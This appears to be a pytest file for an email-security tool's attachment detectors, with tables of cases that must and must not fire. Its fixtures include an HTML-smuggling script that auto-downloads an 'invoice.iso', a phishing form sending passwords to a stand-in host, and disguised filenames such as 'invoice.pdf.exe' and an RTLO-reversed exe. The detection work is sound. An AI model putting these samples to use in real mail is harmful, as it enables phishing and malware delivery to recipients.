"""Attachment detectors, one table each: cases that must and must not fire."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import attachment_cases as cases
import pytest
from msoffcrypto.format.ooxml import OOXMLFile

from floodwall.detect.mail.dangerous_attachment import DangerousAttachmentDetector
from floodwall.detect.mail.double_extension import DoubleExtensionDetector
from floodwall.detect.mail.encrypted_archive import EncryptedArchiveDetector
from floodwall.detect.mail.file_type_mismatch import FileTypeMismatchDetector
from floodwall.detect.mail.html_credential_form import HtmlCredentialFormDetector
from floodwall.detect.mail.html_smuggling import HtmlSmugglingDetector
from floodwall.detect.mail.rtlo_filename import RtloFilenameDetector

att, fired = cases.att, cases.fired


def _docx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns='
            '"http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        z.writestr("word/document.xml", "<w:document>hello</w:document>")
        z.writestr("word/media/image1.bin", bytes(range(256)) * 32)  # over the mini stream
    return buf.getvalue()


def _encrypted_docx() -> bytes:
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(_docx())).encrypt("s3cret", out)
    return out.getvalue()


def _plain_ole() -> bytes:
    """OLE magic without MS-OFFCRYPTO's encryption streams (here: nothing readable)."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


SMUGGLE = (
    b"<html><body><script>var b=atob('" + b"QUFB" * 80 + b"');var blob=new Blob([b]);"
    b"var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
    b"a.download='invoice.iso';a.click();</script></body></html>"
)
LOGIN = (
    b"<html><form action='https://collect.example.net/p.php' method=post>"
    b"<input name=u><input type='password' name=p></form></html>"
)


@pytest.mark.parametrize(
    ("detector", "attachment", "fires"),
    [
        (DoubleExtensionDetector(), att("invoice.pdf.exe", "pe"), True),
        (DoubleExtensionDetector(), att("scan.JPG.js"), True),
        (DoubleExtensionDetector(), att("report.2024.pdf", "pdf"), False),
        (DoubleExtensionDetector(), att("setup.exe", "pe"), False),
        (DoubleExtensionDetector(), att("archive.tar.gz", "gzip"), False),
        (RtloFilenameDetector(), att("invoice\u202efdp.exe", "pe"), True),
        (RtloFilenameDetector(), att("invoice.pdf", "pdf"), False),
        (DangerousAttachmentDetector(), att("run.exe", "pe"), True),
        (DangerousAttachmentDetector(), att("notes.txt", "pe"), True),  # content decides too
        (DangerousAttachmentDetector(), att("shortcut.LNK", "lnk"), True),
        (DangerousAttachmentDetector(), att("disk.iso", "iso"), True),
        (DangerousAttachmentDetector(), att("payload.js", path="a.zip/payload.js", depth=1), True),
        (DangerousAttachmentDetector(), att("report.pdf", "pdf"), False),
        (DangerousAttachmentDetector(), att("photo.jpg", "jpeg"), False),
        (FileTypeMismatchDetector(), att("invoice.pdf", "pe"), True),
        (FileTypeMismatchDetector(), att("photo.jpg", "html"), True),
        (FileTypeMismatchDetector(), att("invoice.pdf", "pdf"), False),
        (FileTypeMismatchDetector(), att("letter.docx", "ooxml"), False),
        (FileTypeMismatchDetector(), att("data.csv", "unknown"), False),
        # An encrypted OOXML package lives in an OLE file (MS-OFFCRYPTO); any other OLE
        # file behind a .docx name is a disguise.
        (FileTypeMismatchDetector(), att("letter.docx", "ole", _encrypted_docx()), False),
        (FileTypeMismatchDetector(), att("letter.docx", "ole", _plain_ole()), True),
        (FileTypeMismatchDetector(), att("invoice.pdf", "ole", _encrypted_docx()), True),
        (EncryptedArchiveDetector(), att("secret.zip", "zip", encrypted=True), True),
        (EncryptedArchiveDetector(), att("secret.zip", "zip", password="infected"), True),
        (EncryptedArchiveDetector(), att("plain.zip", "zip"), False),
        (HtmlSmugglingDetector(), att("invoice.html", "html", SMUGGLE), True),
        (
            HtmlSmugglingDetector(),
            att("invoice.html", "html", b"<html><script>alert(1)</script>"),
            False,
        ),
        (HtmlSmugglingDetector(), att("notes.txt", "text", SMUGGLE), False),
        (HtmlCredentialFormDetector(), att("login.htm", "html", LOGIN), True),
        (
            HtmlCredentialFormDetector(),
            att("login.htm", "html", LOGIN.replace(b"password", b"text")),
            False,
        ),
        (HtmlCredentialFormDetector(), att("login.htm", "html", b"<input type=password>"), False),
    ],
)
def test_detector(detector: Any, attachment: Any, fires: bool) -> None:
    assert fired(detector, attachment) == ([attachment.path] if fires else [])


@pytest.mark.parametrize(
    "detector",
    [DoubleExtensionDetector, RtloFilenameDetector, DangerousAttachmentDetector,
     FileTypeMismatchDetector, EncryptedArchiveDetector, HtmlSmugglingDetector,
     HtmlCredentialFormDetector],
)  # fmt: skip
def test_metadata(detector: Any) -> None:
    assert detector.id.startswith("mail.") and detector.title and detector.attack
    assert (detector.__doc__ or "").strip()
